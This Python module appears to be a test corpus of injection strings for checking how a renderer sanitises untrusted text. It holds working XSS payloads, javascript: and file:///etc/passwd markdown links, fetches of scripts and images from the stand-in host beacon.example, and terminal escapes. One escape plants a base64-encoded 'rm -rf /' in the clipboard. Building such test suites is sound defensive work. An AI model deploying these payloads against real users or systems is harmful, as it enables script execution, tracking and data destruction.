"""Texts that a model, a file name or a data set may hold to act on its reader.

Each one that could run a script sets ``window.__xss``; each one that could ask the
network for something asks ``beacon.example``.
"""

from __future__ import annotations

RUN = "window.__xss=1"
HOST = "beacon.example"

HTML = {
    "script": f"<script>{RUN}</script>",
    "script-upper": f"<SCRIPT>{RUN}</SCRIPT>",
    "script-src": f"<script src=http://{HOST}/x.js></script>",
    "script-split": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "script-newline": f"<script\n>{RUN}</script\n>",
    "script-unclosed": f"<script>{RUN}//",
    "img-onerror": f"<img src=x onerror={RUN}>",
    "img-slashes": f"<img/src/onerror={RUN}>",
    "img-beacon": f'<img src="http://{HOST}/a.png">',
    "img-srcset": f'<img srcset="http://{HOST}/a.png 1x">',
    "body-onload": f"<body onload={RUN}>",
    "input-autofocus": f"<input autofocus onfocus={RUN}>",
    "details-ontoggle": f"<details open ontoggle={RUN}>x</details>",
    "video-source": f"<video><source onerror={RUN}></video>",
    "video-poster": f'<video poster="http://{HOST}/p.png"></video>',
    "audio-src": f'<audio src="http://{HOST}/a.mp3" autoplay></audio>',
    "marquee": f"<marquee onstart={RUN}>x</marquee>",
    "iframe-js": f'<iframe src="javascript:parent.{RUN}"></iframe>',
    "iframe-srcdoc": f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    "object-data": f'<object data="http://{HOST}/o"></object>',
    "embed": f'<embed src="http://{HOST}/e">',
    "link-stylesheet": f'<link rel=stylesheet href="http://{HOST}/s.css">',
    "link-prefetch": f'<link rel=dns-prefetch href="//{HOST}">',
    "base-href": f'<base href="http://{HOST}/">',
    "meta-refresh": f'<meta http-equiv=refresh content="0;url=http://{HOST}/">',
    "form-action": f'<form action="javascript:{RUN}"><button>go</button></form>',
    "button-formaction": f'<button formaction="javascript:{RUN}">go</button>',
    "style-import": f"<style>@import url(http://{HOST}/s.css);</style>",
    "style-attribute": f'<p style="background:url(http://{HOST}/b.png)">x</p>',
    "style-overlay": '<a href="http://x.example" style="position:fixed;inset:0">x</a>',
    "svg-onload": f"<svg onload={RUN}></svg>",
    "svg-script": f"<svg><script>{RUN}</script></svg>",
    "svg-animate": f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    "svg-use": f'<svg><use href="http://{HOST}/u.svg#x"/></svg>',
    "svg-image": f'<svg><image href="http://{HOST}/i.png"/></svg>',
    "svg-foreign": f"<svg><foreignObject><img src=x onerror={RUN}></svg>",
    "mathml-link": f'<math><a xlink:href="javascript:{RUN}">x</a></math>',
    "mathml-mutation": f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    "noscript-mutation": f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    "template-shadow": f"<template><img src=x onerror={RUN}></template>",
    "comment-break": f"<!--><img src=x onerror={RUN}>-->",
    "cdata": f"<![CDATA[><img src=x onerror={RUN}>]]>",
    "title-break": f"</title><script>{RUN}</script>",
    "textarea-break": f"</textarea><img src=x onerror={RUN}>",
    "pre-break": f"</pre></code><img src=x onerror={RUN}>",
    "style-break": f"</style><img src=x onerror={RUN}>",
    "attribute-break": f'" onmouseover="{RUN}" x="',
    "attribute-break-single": f"' onmouseover='{RUN}' x='",
    "id-clobber": '<a id="jupyter-config-data" href="http://x.example">x</a>',
    "entities": f"&lt;script&gt;{RUN}&lt;/script&gt;",
    "entities-numeric": f"&#60;img src=x onerror={RUN}&#62;",
    "format-fields": "{} {0.__class__} {css} %s",
}

MARKDOWN = {
    "md-javascript": f"[x](javascript:{RUN})",
    "md-javascript-case": f"[x](JaVaScRiPt:{RUN})",
    "md-javascript-entity": f"[x](javascript&colon;{RUN})",
    "md-javascript-tab": f"[x](java&Tab;script:{RUN})",
    "md-vbscript": "[x](vbscript:msgbox(1))",
    "md-data-html": f"[x](data:text/html,<script>{RUN}</script>)",
    "md-file": "[x](file:///etc/passwd)",
    "md-relative": "[x](/api/kernels)",
    "md-protocol-relative": f"[x](//{HOST}/p)",
    "md-autolink": f"<javascript:{RUN}>",
    "md-reference": f"[x][y]\n\n[y]: javascript:{RUN}",
    "md-image": f"![x](http://{HOST}/i.png)",
    "md-image-reference": f"![x][y]\n\n[y]: http://{HOST}/i.png",
    "md-image-data": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9Ii8+)",
    "md-link-title": f'[x](http://x.example "\\" onmouseover=\\"{RUN}")',
    "md-fence-info": f'```"><img src=x onerror={RUN}>\ncode\n```',
    "md-html-block": f"<div>\n\n<img src=x onerror={RUN}>\n\n</div>",
    "md-table": f"|a|\n|-|\n|<img src=x onerror={RUN}>|",
    "md-heading": f"# <img src=x onerror={RUN}>",
    "md-math": f"$\\href{{javascript:{RUN}}}{{x}}$",
}

TERMINAL = {
    "ansi-colour": "\x1b[31mred\x1b[0m",
    "ansi-clear": "\x1b[2J\x1b[H",
    "ansi-title": "\x1b]0;owned\x07",
    "ansi-link": f"\x1b]8;;http://{HOST}\x1b\\here\x1b]8;;\x1b\\",
    "ansi-clipboard": "\x1b]52;c;cm0gLXJmIC8=\x07",
    "ansi-8bit": "\x9b31mred\x9d0;owned\x9c",
    "ansi-unfinished": "\x1b]0;never ends\nnext line",
    "carriage-return": "true line\rfalse",
    "backspace": "abc\b\b\bxyz",
    "nul": "a\x00b",
    "bidi-override": "user\u202etxt.exe",
    "bidi-isolate": "\u2066if admin\u2069 \u2067begin\u2069",
    "line-separator": "one\u2028two\u2029three",
    "surrogate": "half \ud83d a pair",
}

PAYLOADS = HTML | MARKDOWN | TERMINAL
